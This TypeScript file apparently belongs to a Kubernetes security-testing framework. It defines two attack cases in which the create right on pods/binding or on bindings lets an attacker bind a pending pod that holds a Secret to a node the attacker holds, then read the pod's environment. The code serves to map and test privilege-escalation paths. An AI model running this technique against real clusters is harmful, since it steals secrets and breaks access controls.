import { must, pathOf } from "../../control-plane/act.ts";
import type { Attack } from "./attack.ts";
import { clearPods, environmentOf, podSpec } from "./kubelet.ts";

const VICTIM = "waiting";

/** The same request has two paths, with a right each. */
const PATHS = [
  {
    resource: "pods/binding",
    names: [VICTIM],
    path: (namespace: string) => `${pathOf("Pod", namespace, VICTIM)}/binding`,
  },
  { resource: "bindings", names: [], path: (namespace: string) => `/api/v1/namespaces/${namespace}/bindings` },
];

export const attacks: Attack[] = PATHS.map(({ resource, names, path }) => ({
  edge: "pods-binding",
  // The tool does not know whose the node is.
  elsewhere: true,
  how: `by ${resource}: a pod with the Secret, which waits for a node, put on one that the attacker holds`,
  rights: (stage) => [stage.here("create", resource, ...names)],
  arrange: async (stage) => {
    await clearPods(stage);
    const body = { metadata: { name: VICTIM }, spec: podSpec(stage, { nodeName: "" }) };
    await must(stage.plane, "POST", pathOf("Pod", stage.namespace), body);
  },
  attack: async (stage) => {
    const target = { apiVersion: "v1", kind: "Node", name: stage.plane.node };
    await stage.send("POST", path(stage.namespace), { metadata: { name: VICTIM }, target });
    // From here on the attacker is the node.
    return environmentOf(stage, await must(stage.plane, "GET", pathOf("Pod", stage.namespace, VICTIM)));
  },
}));
